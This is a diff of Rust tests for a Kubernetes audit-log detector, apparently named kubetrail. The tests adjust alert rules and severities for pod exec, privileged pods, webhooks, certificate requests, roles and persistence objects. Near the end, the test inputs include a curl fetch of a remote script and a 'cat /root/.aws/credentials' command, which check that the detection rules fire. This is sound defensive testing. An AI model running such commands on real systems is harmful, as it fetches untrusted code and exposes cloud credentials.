@@ -338,9 +338,11 @@ fn pod_exec() {
             .stage("ResponseStarted"),
         &[rule],
     );
-    // Near misses: the ResponseComplete of a started session, denied, portforward (its own
-    // rule), a pod get.
-    check(exec().code(101), &[]);
+    // A session logged only at ResponseComplete (policies without ResponseStarted). The
+    // ResponseComplete of a session seen at ResponseStarted is left out by the detector
+    // (one alert per auditID: tests/it/stateful.rs).
+    check(exec().code(101), &[rule]);
+    // Near misses: denied, portforward (its own rule), a pod get.
     check(exec().denied(), &[]);
     check(
         audit("create", "pods")
@@ -396,17 +398,27 @@ fn privileged_container() {
             .pod(pod_spec("Pod", &[("dbg", "busybox", Some(true))])),
         &[rule, "k8s.ephemeral_container_added"],
     );
-    // Near misses: controller-made and mirror pods, denied, unprivileged, status updates, reads.
+    // A pod a controller creates is the only sign of a workload written before kubetrail
+    // started (the detector then withholds the other pods of its owner: inline tests).
     check(
         audit("create", "pods")
             .pod(privileged_pod())
             .user(RS_CONTROLLER, ActorKind::Serviceaccount),
-        &[],
+        &[rule],
     );
     check(
         audit("create", "pods")
             .pod(privileged_pod())
             .user("system:kube-controller-manager", ActorKind::System),
+        &[rule],
+    );
+    // Near misses: controller-made pods in system namespaces, mirror pods, denied,
+    // unprivileged, status updates, reads.
+    check(
+        audit("create", "pods")
+            .namespace(Some("kube-system"))
+            .pod(privileged_pod())
+            .user(RS_CONTROLLER, ActorKind::Serviceaccount),
         &[],
     );
     check(
@@ -467,12 +479,21 @@ fn hostpath_volume() {
         audit("create", "daemonsets")
             .pod(pod_spec("DaemonSet", &[("logs", "fluent-bit", None)]))
             .volume("/var/log"),
-        &[rule],
+        // A person creating a DaemonSet is also reported as such (low severity).
+        &[rule, "k8s.daemonset_created_by_person"],
     );
+    // A controller's pod: only the sensitive-path rule looks at those.
     check(
         audit("create", "pods")
             .pod(pod())
             .volume("/etc")
+            .user(RS_CONTROLLER, ActorKind::Serviceaccount),
+        &["k8s.sensitive_hostpath"],
+    );
+    check(
+        audit("create", "pods")
+            .pod(pod())
+            .volume("/var/log")
             .user(RS_CONTROLLER, ActorKind::Serviceaccount),
         &[],
     );
@@ -503,10 +524,22 @@ fn host_namespaces() {
         audit("create", "cronjobs")
             .pod(pod_spec("CronJob", &[("j", "nginx", None)]))
             .edit_pod(|spec| spec.host_ipc = true),
+        // A person creating a CronJob is also reported as such (low severity).
+        &[rule, "k8s.cronjob_created_by_person"],
+    );
+    check(
+        audit("create", "pods")
+            .pod(pod())
+            .edit_pod(|spec| spec.host_network = true)
+            .user(
+                "system:serviceaccount:kube-system:daemon-set-controller",
+                ActorKind::Serviceaccount,
+            ),
         &[rule],
     );
     check(
         audit("create", "pods")
+            .namespace(Some("kube-system"))
             .pod(pod())
             .edit_pod(|spec| spec.host_network = true)
             .user(
@@ -766,6 +799,238 @@ fn untrusted_image() {
     check(pod().image(untrusted()).denied(), &[]);
 }
 
+/// The severity of `rule`'s one alert for `event`.
+#[track_caller]
+fn severity_of(rule: &str, event: impl Into<event::Event>) -> Severity {
+    let alerts: Vec<_> = alerts_for(&event.into())
+        .into_iter()
+        .filter(|alert| alert.rule_id == rule)
+        .collect();
+    assert_eq!(alerts.len(), 1, "{rule}");
+    alerts[0].severity
+}
+
+#[test]
+fn csr_created_non_node() {
+    let rule = "k8s.csr_created_non_node";
+    let csr = |signer: &str| {
+        audit("create", "certificatesigningrequests")
+            .namespace(None)
+            .api_group("certificates.k8s.io")
+            .code(201)
+            .level("Request")
+            .raw(json!({"requestObject": {"spec": {"signerName": signer, "usages": ["client auth"]}}}))
+    };
+    // API client certificates are high; other signers, or no body to read, medium.
+    check(csr("kubernetes.io/kube-apiserver-client"), &[rule]);
+    assert_eq!(
+        severity_of(rule, csr("kubernetes.io/kube-apiserver-client")),
+        Severity::High
+    );
+    assert_eq!(
+        severity_of(rule, csr("kubernetes.io/kube-apiserver-client-kubelet")),
+        Severity::High
+    );
+    assert_eq!(
+        severity_of(rule, csr("kubernetes.io/kubelet-serving")),
+        Severity::Medium
+    );
+    assert_eq!(
+        severity_of(
+            rule,
+            audit("create", "certificatesigningrequests").namespace(None)
+        ),
+        Severity::Medium
+    );
+    // Near misses: a kubelet, a bootstrap token, a kube-system component, denied, a dry run.
+    check(
+        csr("kubernetes.io/kubelet-serving").user("system:node:worker-1", ActorKind::Node),
+        &[],
+    );
+    check(
+        csr("kubernetes.io/kube-apiserver-client-kubelet")
+            .user("system:bootstrap:abcdef", ActorKind::System)
+            .groups(&["system:bootstrappers", "system:authenticated"]),
+        &[],
+    );
+    check(
+        csr("kubernetes.io/kube-apiserver-client").user(SA_KUBE_SYSTEM, ActorKind::Serviceaccount),
+        &[],
+    );
+    check(csr("kubernetes.io/kube-apiserver-client").denied(), &[]);
+    check(
+        csr("kubernetes.io/kube-apiserver-client")
+            .uri("/apis/certificates.k8s.io/v1/certificatesigningrequests?dryRun=All"),
+        &[],
+    );
+}
+
+#[test]
+fn admission_webhook_modified() {
+    let rule = "k8s.admission_webhook_modified";
+    let webhook = |verb: &str, resource: &str| {
+        audit(verb, resource)
+            .namespace(None)
+            .api_group("admissionregistration.k8s.io")
+            .name("hook")
+    };
+    // Mutating webhooks rewrite every matching object: high; validating ones medium.
+    assert_eq!(
+        severity_of(
+            rule,
+            webhook("create", "mutatingwebhookconfigurations").code(201)
+        ),
+        Severity::High
+    );
+    assert_eq!(
+        severity_of(rule, webhook("patch", "validatingwebhookconfigurations")),
+        Severity::Medium
+    );
+    // A person writing a fail-open webhook raises both rules.
+    let ignore = json!({"requestObject": {"webhooks": [{"name": "w", "failurePolicy": "Ignore"}]}});
+    check(
+        webhook("update", "validatingwebhookconfigurations")
+            .level("Request")
+            .raw(ignore),
+        &[rule, "k8s.admission_webhook_fail_open"],
+    );
+    // Near misses: CA bundle injection, GitOps, a kube-system controller, denied, deletion.
+    check(
+        webhook("patch", "mutatingwebhookconfigurations").user(
+            "system:serviceaccount:cert-manager:cert-manager-cainjector",
+            ActorKind::Serviceaccount,
+        ),
+        &[],
+    );
+    check(
+        webhook("create", "validatingwebhookconfigurations").user(
+            "system:serviceaccount:argocd:argocd-application-controller",
+            ActorKind::Serviceaccount,
+        ),
+        &[],
+    );
+    check(
+        webhook("update", "mutatingwebhookconfigurations")
+            .user(SA_KUBE_SYSTEM, ActorKind::Serviceaccount),
+        &[],
+    );
+    check(
+        webhook("patch", "mutatingwebhookconfigurations").denied(),
+        &[],
+    );
+    check(
+        webhook("delete", "mutatingwebhookconfigurations"),
+        &["k8s.admission_webhook_deleted"],
+    );
+}
+
+#[test]
+fn role_workload_write() {
+    let rule = "k8s.role_workload_write";
+    let role = |resource: &str, rules: serde_json::Value| {
+        audit("create", resource)
+            .api_group("rbac.authorization.k8s.io")
+            .level("Request")
+            .raw(json!({"requestObject": {"rules": rules}}))
+    };
+    let pods_create = json!([{"apiGroups": [""], "resources": ["pods"], "verbs": ["create"]}]);
+    // Cluster-wide: medium; one namespace: low.
+    check(role("clusterroles", pods_create.clone()), &[rule]);
+    assert_eq!(
+        severity_of(rule, role("clusterroles", pods_create.clone())),
+        Severity::Medium
+    );
+    assert_eq!(
+        severity_of(rule, role("roles", pods_create.clone())),
+        Severity::Low
+    );
+    // Exec is the sensitive-permissions rule's; both fire when both are granted.
+    check(
+        role(
+            "roles",
+            json!([{"apiGroups": [""], "resources": ["pods/exec"], "verbs": ["create"]}, {"apiGroups": ["batch"], "resources": ["cronjobs"], "verbs": ["patch"]}]),
+        ),
+        &[rule, "k8s.role_sensitive_permissions"],
+    );
+    // Near misses: wildcards (their own rule), read-only, Metadata level, bootstrap, denied.
+    check(
+        role(
+            "clusterroles",
+            json!([{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]),
+        ),
+        &["k8s.wildcard_role"],
+    );
+    check(
+        role(
+            "roles",
+            json!([{"apiGroups": ["apps"], "resources": ["deployments"], "verbs": ["get", "list"]}]),
+        ),
+        &[],
+    );
+    check(role("roles", pods_create.clone()).level("Metadata"), &[]);
+    check(
+        role("clusterroles", pods_create.clone()).user("system:apiserver", ActorKind::System),
+        &[],
+    );
+    check(role("clusterroles", pods_create).denied(), &[]);
+}
+
+#[test]
+fn persistence_by_people() {
+    // A service account in kube-system, a CronJob and a DaemonSet, each created by a person.
+    check(
+        audit("create", "serviceaccounts")
+            .namespace(Some("kube-system"))
+            .code(201),
+        &["k8s.sa_created_in_system_namespace"],
+    );
+    check(
+        audit("create", "cronjobs").api_group("batch").code(201),
+        &["k8s.cronjob_created_by_person"],
+    );
+    check(
+        audit("create", "daemonsets").api_group("apps").code(201),
+        &["k8s.daemonset_created_by_person"],
+    );
+    // Server-side apply creates by patch, answered 201; a 200 patch is an update.
+    check(
+        audit("patch", "daemonsets")
+            .api_group("apps")
+            .name("agent")
+            .code(201),
+        &["k8s.daemonset_created_by_person"],
+    );
+    check(
+        audit("patch", "daemonsets").api_group("apps").name("agent"),
+        &[],
+    );
+    // Near misses: a controller, GitOps, an app namespace, an existing object, a dry run.
+    check(
+        audit("create", "serviceaccounts")
+            .namespace(Some("kube-system"))
+            .user("system:kube-controller-manager", ActorKind::System),
+        &[],
+    );
+    check(
+        audit("create", "cronjobs").user(
+            "system:serviceaccount:flux-system:kustomize-controller",
+            ActorKind::Serviceaccount,
+        ),
+        &[],
+    );
+    check(audit("create", "serviceaccounts"), &[]);
+    check(
+        audit("create", "serviceaccounts")
+            .namespace(Some("kube-public"))
+            .code(409),
+        &[],
+    );
+    check(
+        audit("create", "daemonsets").uri("/apis/apps/v1/namespaces/team-a/daemonsets?dryRun=All"),
+        &[],
+    );
+}
+
 #[test]
 fn falco_runtime_alert() {
     let rule = "falco.runtime_alert";
@@ -902,11 +1167,11 @@ fn an_exec_reading_credentials_raises_one_command_alert() {
         exec(&["curl", "-s", "http://203.0.113.9/x.sh"]),
         &["k8s.pod_exec", suspicious],
     );
-    // The ResponseComplete record of a session, judged on its own, alerts too (pod_exec keeps
-    // to the session's first record).
+    // A ResponseComplete record judged on its own alerts too (a detector keeps one alert per
+    // audit ID, on the first stage it sees).
     check(
         exec(&["cat", "/root/.aws/credentials"]).stage("ResponseComplete"),
-        &[credentials],
+        &["k8s.pod_exec", credentials],
     );
     check(exec(&["cat", "/root/.aws/credentials"]).denied(), &[]);
 }
